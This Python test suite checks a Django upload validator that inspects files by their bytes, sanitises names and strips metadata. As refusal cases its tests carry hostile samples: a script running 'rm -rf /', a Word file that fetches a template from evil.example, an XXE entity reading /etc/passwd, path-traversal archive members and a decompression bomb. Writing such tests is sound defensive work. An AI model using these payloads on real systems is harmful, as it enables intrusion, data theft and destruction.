"""Files that people bring: what may come in, under what name, once, and for how long."""

import hashlib
import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st
from tests.factories import PostFactory, city, reader, samples

from gongkai.foundation import clock
from gongkai.foundation.attachments import errors, examine, places, receive
from gongkai.foundation.attachments.fields import StoredFilesField
from gongkai.foundation.attachments.inspection import tell
from gongkai.foundation.attachments.kinds import DANGEROUS, KINDS
from gongkai.foundation.attachments.models import FileText, PartialUpload, StoredFile
from gongkai.foundation.attachments.naming import HEAVIEST, LONGEST, name_as, plain_name
from gongkai.foundation.attachments.sweeping import sweep
from gongkai.foundation.attachments.uploading import PIECE, token
from gongkai.foundation.permissions import Reader

BACKEND = "allauth.account.auth_backends.AuthenticationBackend"
WORD = samples.word()
OLE_PACKAGE = samples.compound({"\x01Ole10Native": b"MZ program"})
RELATION = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)


def remote(kind: bytes, target: bytes) -> bytes:
    return samples.with_parts(WORD, {"word/_rels/settings.xml.rels": RELATION % (kind, target)})


def overlapping() -> bytes:
    """Two entries of the table that point at the same packed bytes."""
    data = bytearray(samples.packed({"[Content_Types].xml": b"<Types/>", "b" * 19: b"y" * 400_000}))
    table = data.rindex(b"PK\x01\x02")
    first = data.index(b"PK\x01\x02")
    data[first + 20 : first + 28] = data[table + 20 : table + 28]
    return bytes(data)


def told(tmp_path, data: bytes, name: str) -> str:
    path = tmp_path / "upload"
    path.write_bytes(data)
    return tell(path, name).key


TAKEN = {
    "a Word file": (WORD, "通知.docx", "docx"),
    "a Word file called something else": (WORD, "通知.pdf", "docx"),
    "an Excel file": (samples.sheet([["单位", "金额"], ["市财政局", 12]]), "附表.xlsx", "xlsx"),
    "a PDF": (samples.pdf(), "年报.pdf", "pdf"),
    "an OFD": (
        samples.packed({"OFD.xml": b"<ofd/>", "Doc_0/Document.xml": b"<d/>"}),
        "公文.ofd",
        "ofd",
    ),
    "an old Word file": (samples.old_word(), "旧通知.doc", "doc"),
    "a WPS text": (samples.old_word(), "旧通知.wps", "wps"),
    "an old Excel file": (samples.old_sheet(), "旧表.xls", "xls"),
    "a JPEG": (samples.picture("JPEG"), "现场.jpeg", "jpeg"),
    "a WebP": (samples.picture("WEBP"), "现场.webp", "webp"),
    "a text in GB18030": (
        "关于放假的通知，请各单位遵照执行。".encode("gb18030"),
        "通知.txt",
        "txt",
    ),
    "a CSV": ("单位,金额\n市财政局,12\n".encode(), "附表.csv", "csv"),
    "a Word file with a template on the author's disk": (
        remote(b"attachedTemplate", b"file:///C:\\Users\\a\\Normal.dotm"),
        "通知.docx",
        "docx",
    ),
    "a Word file with a link": (remote(b"hyperlink", b"https://www.gov.cn/"), "通知.docx", "docx"),
}


@pytest.mark.parametrize(("data", "name", "kind"), TAKEN.values(), ids=TAKEN.keys())
def test_what_an_office_sends_is_told_by_its_bytes(tmp_path, data, name, kind):
    assert told(tmp_path, data, name) == kind


REFUSED = {
    "nothing": (b"", "空.docx", errors.EmptyFile),
    "white space": (b"  \n\n", "空.txt", errors.EmptyFile),
    "a program": (b"MZ\x90\0" + b"\0" * 100, "通知.docx", errors.Program),
    "a script": (b"#!/bin/sh\nrm -rf /\n", "通知.txt", errors.Program),
    "a web page": ("<html><body><p>通知</p></body></html>".encode(), "通知.txt", errors.WebPage),
    "a web page that calls itself Excel": (
        b"<table><tr><td>1</td></tr></table>",
        "表.xls",
        errors.WebPage,
    ),
    "a drawing with a script": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
        "图.png",
        errors.WebPage,
    ),
    "a page in front of a PDF": (
        b"<script>x()</script>" + samples.pdf(),
        "年报.pdf",
        errors.NotTaken,
    ),
    "a ZIP": (samples.packed({"通知.txt": b"1"}), "附件.zip", errors.Archive),
    "a RAR": (b"Rar!\x1a\x07\0" + b"\0" * 50, "附件.rar", errors.Archive),
    "a Java program": (
        samples.packed({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}),
        "a.docx",
        errors.Program,
    ),
    "an RTF": (b"{\\rtf1 x}", "通知.doc", errors.BetterKind),
    "a BMP": (b"BM" + b"\0" * 60, "图.bmp", errors.BetterKind),
    "a film": (b"\0\0\0\x18ftypmp42" + b"\0" * 60, "会议.mp4", errors.WrongKind),
    "a Word file with macros": (
        samples.with_parts(WORD, {"word/vbaProject.bin": b"x"}),
        "通知.docx",
        errors.Macros,
    ),
    "a macro document under another name": (
        samples.with_parts(
            WORD,
            {},
            '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
        "通知.docx",
        errors.Macros,
    ),
    "an Excel 4 macro sheet": (
        samples.with_parts(samples.sheet([["1"]]), {"xl/macrosheets/sheet1.xml": b"<x/>"}),
        "表.xlsx",
        errors.Macros,
    ),
    "a Word file that fetches its template": (
        remote(b"attachedTemplate", b"https://evil.example/t.dotm"),
        "通知.docx",
        errors.RemoteParts,
    ),
    "a Word file with a picture on another server": (
        remote(b"image", b"\\\\10.0.0.1\\a.png"),
        "通知.docx",
        errors.RemoteParts,
    ),
    "a Word file with a program packed in": (
        samples.with_parts(WORD, {"word/embeddings/oleObject1.bin": OLE_PACKAGE}),
        "通知.docx",
        errors.HiddenFiles,
    ),
    "a bomb": (
        samples.with_parts(WORD, {"word/media/a.bmp": b"\0" * 40_000_000}),
        "通知.docx",
        errors.Bomb,
    ),
    "members that overlap": (overlapping(), "通知.docx", errors.Damaged),
    "a member that points outside": (
        samples.with_parts(WORD, {"../../etc/cron.d/x": b"x"}),
        "通知.docx",
        errors.Damaged,
    ),
    "a document with an entity": (
        samples.with_parts(
            WORD,
            {
                "word/_rels/settings.xml.rels": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
            },
        ),
        "通知.docx",
        errors.Damaged,
    ),
    "a Word file cut short": (WORD[:-200], "通知.docx", errors.Damaged),
    "a locked Word file": (
        samples.compound({"EncryptedPackage": b"x"}),
        "通知.docx",
        errors.Encrypted,
    ),
    "a locked old Word file": (samples.old_word(locked=True), "通知.doc", errors.Encrypted),
    "a locked old Excel file": (samples.old_sheet(locked=True), "表.xls", errors.Encrypted),
    "an old Word file with macros": (samples.old_word(macros=True), "通知.doc", errors.Macros),
    "an old Excel file with a macro sheet": (
        samples.old_sheet(macro_sheet=True),
        "表.xls",
        errors.Macros,
    ),
    "an installer": (samples.compound({"!_StringPool": b"x"}), "通知.doc", errors.WrongKind),
    "a locked PDF": (samples.pdf(password="123456"), "年报.pdf", errors.Encrypted),
    "a PDF with a script": (samples.pdf(script="app.alert(1)"), "年报.pdf", errors.ActivePdf),
    "a PDF with a file packed in": (samples.pdf(inside=b"x"), "年报.pdf", errors.HiddenFiles),
    "a PDF cut short": (samples.pdf()[:120], "年报.pdf", errors.Damaged),
    "a picture of a billion pixels": (
        samples.huge_png(40_000, 30_000),
        "图.png",
        errors.TooManyPixels,
    ),
    "a picture cut short": (samples.picture()[:40], "图.png", errors.Damaged),
}


@pytest.mark.parametrize(("data", "name", "error"), REFUSED.values(), ids=REFUSED.keys())
def test_what_must_not_come_in_is_refused_with_a_sentence_that_says_what_to_do(
    tmp_path, data, name, error
):
    with pytest.raises(error) as refused:
        told(tmp_path, data, name)
    sentence = str(refused.value)
    assert name in sentence
    assert sentence.endswith("。")
    assert "请" in sentence


@given(st.text(max_size=300))
def test_any_name_becomes_one_that_can_be_kept_and_read(raw):
    name = plain_name(raw)
    assert name
    assert len(name) <= LONGEST
    assert len(name.encode()) <= HEAVIEST
    assert not set('/\\<>:"|?*\0\u202e\u200b\n') & set(name)
    assert not name.startswith(".")
    assert not name.endswith((".", " "))
    assert plain_name(name) == name


@given(st.text(alphabet="通知附件（1）.", min_size=1, max_size=150), st.sampled_from(sorted(KINDS)))
def test_the_ending_always_tells_the_truth(stem, kind):
    name = name_as(plain_name(f"{stem}.wps"), KINDS[kind])
    assert name.rpartition(".")[2] in KINDS[kind].endings
    assert len(name.encode()) <= HEAVIEST


@pytest.mark.parametrize(
    ("raw", "name"),
    [
        pytest.param(
            "C:\\Users\\张三\\桌面\\通知（终稿）.docx", "通知（终稿）.docx", id="a path of Windows"
        ),
        pytest.param("../../../etc/passwd", "passwd", id="a way up"),
        pytest.param(
            "关于2024年预算的通知?.docx",
            "关于2024年预算的通知？.docx",
            id="a sign that Windows forbids",
        ),
        pytest.param("年报\u202efdp.docx", "年报fdp.docx", id="letters turned round"),
        pytest.param("con.docx", "_con.docx", id="a device"),
        pytest.param(
            " 附件1. 目录 .docx ", "附件1. 目录 .docx", id="a readable name stays as it is"
        ),
    ],
)
def test_names_stay_readable(raw, name):
    assert plain_name(raw) == name


@pytest.mark.parametrize("ending", ["exe", "js", "html", "docm"])
def test_a_name_that_hides_a_program_is_refused(ending):
    assert ending in DANGEROUS
    for name in (f"通知.{ending}.docx", f"通知.{ending}"):
        with pytest.raises(errors.DoubleEnding):
            name_as(name, KINDS["docx"])


@pytest.mark.django_db
class TestReceiving:
    def test_the_same_bytes_stand_once_and_every_upload_keeps_its_own_name(self):
        clerk = reader("clerk", city().finance)
        data = samples.word("关于做好预算公开工作的通知")
        first = receive(SimpleUploadedFile("通知.docx", data), clerk)
        second = receive(SimpleUploadedFile("附件1.pdf", data), clerk)
        assert (first.name, second.name) == ("通知.docx", "附件1.docx")
        assert first.digest == second.digest
        assert first.pk != second.pk
        assert second.state == first.state == StoredFile.State.READY
        with first.open_original() as stream:
            assert stream.read() == data
        assert "预算公开" in second.text
        assert places.place_of("originals", first.digest).endswith(first.digest)

    def test_a_slide_show_can_be_found_by_its_words(self):
        slide = (
            '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
            "<a:p><a:r><a:t>政策</a:t></a:r><a:r><a:t>解读</a:t></a:r></a:p></p:sld>"
        )
        types = (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/ppt/presentation.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>'
        )
        data = samples.packed(
            {"[Content_Types].xml": types.encode(), "ppt/slides/slide1.xml": slide.encode()}
        )
        assert receive(SimpleUploadedFile("解读.pptx", data), None).text == "政策解读"

    def test_what_may_be_published_is_clean_and_what_was_found_is_noted(self):
        data = samples.word(
            "联系人身份证号11010519491231002X", author="张三", last_modified_by="李四"
        )
        stored = receive(SimpleUploadedFile("名单.docx", data), None)
        assert stored.is_cleaned
        with stored.open_public() as stream:
            public = stream.read()
        assert hashlib.sha256(public).hexdigest() == stored.public_digest != stored.digest
        with zipfile.ZipFile(io.BytesIO(public)) as archive:
            inside = "".join(archive.read(n).decode("utf-8", "ignore") for n in archive.namelist())
        assert "张三" not in inside
        assert {"personal.identity", "hidden.author"} <= {
            hit["rule"] for hit in stored.screening["hits"]
        }
        assert any("11010519491231002X" in hit["text"] for hit in stored.screening["hits"])

    def test_tracked_changes_are_not_published_unless_somebody_accepts_them(self):
        body = '<w:p><w:r><w:t>第一稿</w:t></w:r><w:ins w:id="1" w:author="王五"><w:r><w:t>改过</w:t></w:r></w:ins></w:p></w:body>'
        with zipfile.ZipFile(io.BytesIO(WORD)) as archive:
            document = archive.read("word/document.xml").decode().replace("</w:body>", body, 1)
        data = samples.with_parts(WORD, {"word/document.xml": document.encode()})
        stored = receive(SimpleUploadedFile("通知.docx", data), None)
        assert stored.state == StoredFile.State.FAILED
        with pytest.raises(errors.NotCleaned, match="修订"):
            stored.open_public()
        assert examine(stored, revisions="accept").is_ready

    def test_an_old_format_is_kept_but_asks_to_be_converted(self):
        stored = receive(SimpleUploadedFile("旧通知.doc", samples.old_word()), None)
        assert stored.state == StoredFile.State.CONVERT
        with pytest.raises(errors.NotCleaned, match="另存为 DOCX"):
            stored.open_public()

    def test_a_file_too_large_is_refused_before_it_is_read(self, settings):
        settings.GONGKAI_UPLOAD_LIMIT = 1

        class Endless:
            name, size, asked = "通知.txt", 0, 0

            def chunks(self, _):
                while True:
                    self.asked += 1
                    yield b"x" * 300_000

        endless = Endless()
        with pytest.raises(errors.TooLarge, match="1 MB"):
            receive(endless, None)
        assert endless.asked == 4
        endless.size = 200 * 2**20
        with pytest.raises(errors.TooLarge):
            receive(endless, None)
        assert endless.asked == 4
        assert not StoredFile.objects.exists()

    def test_what_nobody_refers_to_is_swept_after_its_grace(self):
        stored = receive(SimpleUploadedFile("通知.docx", samples.word("无人引用")), None)
        twin = receive(SimpleUploadedFile("副本.docx", samples.word("无人引用")), None)
        assert not sweep(grace=timedelta(days=7)).files
        StoredFile.objects.filter(pk=stored.pk).update(uploaded_at=clock.now() - timedelta(days=8))
        assert sweep(grace=timedelta(days=7)).files == 1
        assert places.is_kept("originals", twin.digest, twin.size)
        call_command("sweep_attachments", "--days", "0", verbosity=0)
        assert not places.is_kept("originals", twin.digest, twin.size)
        assert not FileText.objects.filter(pk=twin.digest).exists()

    def test_half_a_file_left_by_a_crash_is_not_taken_for_the_whole(self):
        data = samples.word("断电")
        stored = receive(SimpleUploadedFile("通知.docx", data), None)
        with places.default_storage.open(
            places.place_of("originals", stored.digest), "wb"
        ) as broken:
            broken.write(data[:100])
        again = receive(SimpleUploadedFile("通知.docx", data), None)
        with again.open_original() as stream:
            assert stream.read() == data


@pytest.mark.django_db
class TestPieces:
    @pytest.fixture
    def desk(self, client):
        self.user = PostFactory(role="clerk", organisation=city().finance).user
        client.force_login(self.user, backend=BACKEND)
        return client

    def begin(self, desk, name, size):
        return desk.post(
            "/desk/attachments/",
            json.dumps({"name": name, "size": size, "mark": "1"}),
            content_type="application/json",
        )

    def put(self, desk, key, offset, data):
        return desk.put(
            f"/desk/attachments/{key}/?offset={offset}",
            data,
            content_type="application/octet-stream",
        )

    def test_a_big_file_goes_on_after_the_line_broke(self, desk):
        data = ("第一行\n" * 600_000).encode()
        begun = self.begin(desk, "记录.txt", len(data)).json()
        assert self.put(desk, begun["id"], 0, data[:PIECE]).json()["offset"] == PIECE
        again = self.begin(desk, "记录.txt", len(data)).json()
        assert (again["id"], again["offset"]) == (begun["id"], PIECE)
        wrong = self.put(desk, begun["id"], 0, data[:PIECE])
        assert (wrong.status_code, wrong.json()["offset"]) == (409, PIECE)
        done = self.put(desk, begun["id"], PIECE, data[PIECE:]).json()
        assert done["name"] == "记录.txt"
        field = StoredFilesField()
        field.reader = Reader.of(self.user)
        (stored,) = field.clean([done["token"]])
        assert stored.size == len(data)
        assert stored.uploaded_by == self.user
        assert not PartialUpload.objects.exists()

    def test_what_may_not_come_in_is_said_at_once_and_leaves_nothing(self, desk):
        too_large = self.begin(desk, "会议录像.pdf", 200 * 2**20)
        assert too_large.status_code == 422
        assert "50 MB" in too_large.json()["refused"]
        program = b"MZ" + b"\0" * 500
        begun = self.begin(desk, "通知.docx", len(program)).json()
        refused = self.put(desk, begun["id"], 0, program)
        assert refused.status_code == 422
        assert "程序" in refused.json()["refused"]
        assert self.begin(desk, "空.docx", 0).status_code == 422
        assert (
            desk.post("/desk/attachments/", "[1", content_type="application/json").status_code
            == 400
        )
        assert not StoredFile.objects.exists()

    def test_nobody_touches_the_upload_or_the_token_of_another(self, desk, client):
        begun = self.begin(desk, "通知.txt", 8).json()
        stored = receive(SimpleUploadedFile("a.txt", b"12345678"), None)
        mine = token(stored, by=Reader.of(self.user))
        other = PostFactory(role="clerk").user
        client.force_login(other, backend=BACKEND)
        assert self.put(client, begun["id"], 0, b"12345678").status_code == 422
        field = StoredFilesField()
        field.reader = Reader.of(other)
        with pytest.raises(Exception, match="已失效"):
            field.clean([mine])

    def test_a_plain_form_drops_what_is_too_large_instead_of_keeping_it(self, rf, settings):
        settings.GONGKAI_UPLOAD_LIMIT = 1
        request = rf.post(
            "/",
            {
                "files": [
                    SimpleUploadedFile("大.txt", b"x" * 1_500_000),
                    SimpleUploadedFile("小.txt", "小文件".encode()),
                ]
            },
        )
        field = StoredFilesField()
        brought = field.widget.value_from_datadict(request.POST, request.FILES, "files")
        with pytest.raises(Exception, match=r"大\.txt”超过单个文件 1 MB"):
            field.clean(brought)
        assert [stored.name for stored in field.widget.chosen] == ["小.txt"]
